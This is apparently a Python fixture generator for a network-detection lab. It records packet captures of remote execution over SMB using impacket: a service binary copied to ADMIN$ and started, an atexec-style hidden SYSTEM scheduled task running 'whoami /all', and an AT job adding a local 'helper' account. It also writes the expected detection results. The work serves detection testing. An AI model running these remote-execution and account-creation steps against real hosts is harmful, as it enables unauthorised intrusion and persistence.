#!/usr/bin/python3
"""Two ways of running a program on another host, as intruders' tools do it: `malicious-twin.pcap` (a service program copied to
ADMIN$ and made a service; a task registered, run and deleted as impacket's atexec does it; an AT job), `task-fragments.pcap`
(the task again, each call in fragments of at most 800 bytes) and `task-sealed.pcap` (once more, sealed by NTLM as today's
atexec has it).

Real: smbd and impacket's client. Made up: what answers behind the pipes (pipes.py), and the program: an MZ header and text.
"""

import os
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lab import ALERT, SECOND, Lab, expect, main, moved, sha256, transfer, write_pcap
from packets import text

HOSTS = {"ws": "10.1.2.3", "fs": "10.1.2.10"}
USER, PASSWORD = "appadmin", "Summer-2018"
SERVICE, DISPLAY, FILE = "WinHelpSvc", "Windows Helper Service", "whlpsvc.exe"
BINARY = f"%systemroot%\\{FILE}"
TASK, COMMAND, OUTPUT = "\\hQzKpWdT", "cmd.exe", "hQzKpWdT.tmp"
ARGUMENTS = f"/C whoami /all > %windir%\\Temp\\{OUTPUT} 2>&1"
AT = "cmd.exe /c net user helper /add"
ANSWER = b"corp\\appadmin\r\n" + text(900, 41)
XML = f"""<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Triggers>
    <CalendarTrigger>
      <StartBoundary>2015-07-15T20:35:13.2757294</StartBoundary>
      <Enabled>true</Enabled>
      <ScheduleByDay>
        <DaysInterval>1</DaysInterval>
      </ScheduleByDay>
    </CalendarTrigger>
  </Triggers>
  <Principals>
    <Principal id="LocalSystem">
      <UserId>S-1-5-18</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <Hidden>true</Hidden>
    <ExecutionTimeLimit>P3D</ExecutionTimeLimit>
    <Priority>7</Priority>
  </Settings>
  <Actions Context="LocalSystem">
    <Exec>
      <Command>{COMMAND}</Command>
      <Arguments>{ARGUMENTS.replace("&", "&amp;").replace(">", "&gt;")}</Arguments>
    </Exec>
  </Actions>
</Task>
"""


def program():
    """5 KiB that begin as a Windows program does: an MZ header, the stub's text, a PE header without code."""
    dos = struct.pack("<2s29HI", b"MZ", 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, *[0] * 17, 0x80)
    stub = bytes.fromhex("0e1fba0e00b409cd21b8014ccd21") + b"This program cannot be run in DOS mode.\r\r\n$"
    head = (dos + stub).ljust(0x80, b"\0")
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 0, 0x5B2B8158, 0, 0, 0xE0, 0x10F)
    return (head + coff).ljust(1024, b"\0") + text(4096, 77)


def connect(server):
    from impacket.smb3structs import SMB2_DIALECT_21
    from impacket.smbconnection import SMBConnection

    smb = SMBConnection(server, server, myName="WS-0117", preferredDialect=SMB2_DIALECT_21)
    smb.login(USER, PASSWORD, "CORP")
    return smb


def bound(smb, server, pipe, interface, sealed=False, fragment=0):
    from impacket.dcerpc.v5 import transport
    from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY

    rpc = transport.SMBTransport(server, 445, pipe, smb_connection=smb).get_dce_rpc()
    if sealed:
        rpc.set_credentials(USER, PASSWORD, "CORP")
        rpc.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    if fragment:
        rpc.set_max_fragment_size(fragment)
    rpc.connect()
    rpc.bind(interface)
    return rpc


def service(server):
    from io import BytesIO

    from impacket.dcerpc.v5 import scmr

    smb = connect(server)
    smb.putFile("ADMIN$", FILE, BytesIO(program()).read)
    rpc = bound(smb, server, r"\svcctl", scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(rpc)["lpScHandle"]
    made = scmr.hRCreateServiceW(rpc, manager, SERVICE + "\0", DISPLAY + "\0", lpBinaryPathName=BINARY + "\0")["lpServiceHandle"]
    scmr.hRStartServiceW(rpc, made)
    scmr.hRQueryServiceStatus(rpc, made)
    scmr.hRControlService(rpc, made, scmr.SERVICE_CONTROL_STOP)
    scmr.hRDeleteService(rpc, made)
    scmr.hRCloseServiceHandle(rpc, made)
    scmr.hRCloseServiceHandle(rpc, manager)
    rpc.disconnect()
    smb.deleteFile("ADMIN$", FILE)
    smb.logoff()


def task(server, sealed="", fragment=0):
    from impacket.dcerpc.v5 import tsch
    from impacket.dcerpc.v5.dtypes import NULL

    smb = connect(server)
    rpc = bound(smb, server, r"\atsvc", tsch.MSRPC_UUID_TSCHS, sealed, int(fragment))
    path = tsch.hSchRpcRegisterTask(rpc, TASK, XML, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)["pActualPath"]
    assert path == TASK + "\0", path
    tsch.hSchRpcRun(rpc, TASK)
    assert tsch.hSchRpcGetLastRunInfo(rpc, TASK)["pLastRuntime"]["wYear"] == 2018
    tsch.hSchRpcDelete(rpc, TASK)
    rpc.disconnect()
    got = []
    smb.getFile("ADMIN$", f"Temp\\{OUTPUT}", got.append)
    assert b"".join(got) == ANSWER
    smb.deleteFile("ADMIN$", f"Temp\\{OUTPUT}")
    smb.logoff()


def at_job(server):
    from impacket.dcerpc.v5 import atsvc
    from impacket.dcerpc.v5.dtypes import NULL

    smb = connect(server)
    rpc = bound(smb, server, r"\atsvc", atsvc.MSRPC_UUID_ATSVC)
    info = atsvc.AT_INFO()
    info["JobTime"], info["DaysOfMonth"], info["DaysOfWeek"], info["Flags"] = 39_000_000, 0, 0, 0
    info["Command"] = AT + "\0"
    assert atsvc.hNetrJobAdd(rpc, NULL, info)["pJobId"] == 3
    atsvc.hNetrJobDel(rpc, NULL, 3, 3)
    rpc.disconnect()
    smb.logoff()


def make(folder):
    script = os.path.abspath(__file__)

    def recorded(*acts):
        with Lab(HOSTS, ALERT - 2 * SECOND) as lab:
            share = os.path.join(lab.folder, "windows")
            os.makedirs(f"{share}/Temp")
            with open(f"{share}/Temp/{OUTPUT}", "wb") as file:
                file.write(ANSWER)
            os.utime(file.name, (ALERT // SECOND, ALERT // SECOND))
            home = lab.smbd("fs", {"ADMIN$": share}, {USER: PASSWORD})
            lab.pipes("fs", home, "atsvc", "svcctl")
            with lab.capture() as seen:
                for act in acts:
                    lab.call("ws", script, act[0], HOSTS["fs"], *act[1:])
            return moved(seen.packets, ALERT)

    write_pcap(f"{folder}/malicious-twin.pcap", recorded(["service"], ["task"], ["at_job"]))
    common = {"client": "10.1.2.3", "server": "10.1.2.10", "dialect": "0x0210", "shares": ["\\\\10.1.2.10\\IPC$", "\\\\10.1.2.10\\ADMIN$"]}
    who = {"domain": "CORP", "user": USER, "workstation": "WS-0117", "how": "ntlm"}
    svcctl, scheduler, atsvc = "367abb81-9844-35f1-ad32-98f038001003", "86d35949-83c9-4044-b424-db363231fd0c", "1ff70682-0a51-30e8-076d-740be8cee98b"

    def one(interface, *opnums):
        return [{"interface": interface, "opnum": n, "count": 1} for n in opnums]
    what = {"path": TASK, "command": COMMAND, "arguments": ARGUMENTS, "user": "S-1-5-18", "xml_sha256": sha256(XML.encode())}
    output = transfer("read", "ADMIN$", f"Temp\\{OUTPUT}", ANSWER, deleted_later=True)
    expect(
        folder, "malicious-twin", **common, accounts=[{**who, "sessions": 3}], pipes=["svcctl", "atsvc"],
        calls=[{"interface": svcctl, "opnum": 0, "count": 2}, *one(svcctl, 1, 2, 6, 12, 15, 19), *one(scheduler, 1, 12, 13, 16), *one(atsvc, 0, 1)],
        services=[{"name": SERVICE, "display_name": DISPLAY, "binary_path": BINARY}], tasks=[what],
        at_jobs=[{"job_id": 3, "file": "At3.job", "command": AT, "job_time_ms": 39_000_000}],
        objects=[transfer("write", "ADMIN$", FILE, program(), deleted_later=True), output],
    )  # fmt: skip
    once = {**common, "accounts": [{**who, "sessions": 1}], "pipes": ["atsvc"], "tasks": [what], "objects": [output]}
    write_pcap(f"{folder}/task-fragments.pcap", recorded(["task", "", 800]))
    expect(folder, "task-fragments", **once, calls=one(scheduler, 1, 12, 13, 16))
    write_pcap(f"{folder}/task-sealed.pcap", recorded(["task", "sealed"]))
    with open(f"{folder}/task-sealed.keys", "w") as out:
        out.write(f"password:CORP\\{USER}:{PASSWORD}\n")
    expect(folder, "task-sealed", **once, calls=[{**call, "sealed": True} for call in one(scheduler, 1, 12, 13, 16)], keys="task-sealed.keys")


if __name__ == "__main__":
    main(__file__, make, {f.__name__: f for f in (service, task, at_job)})
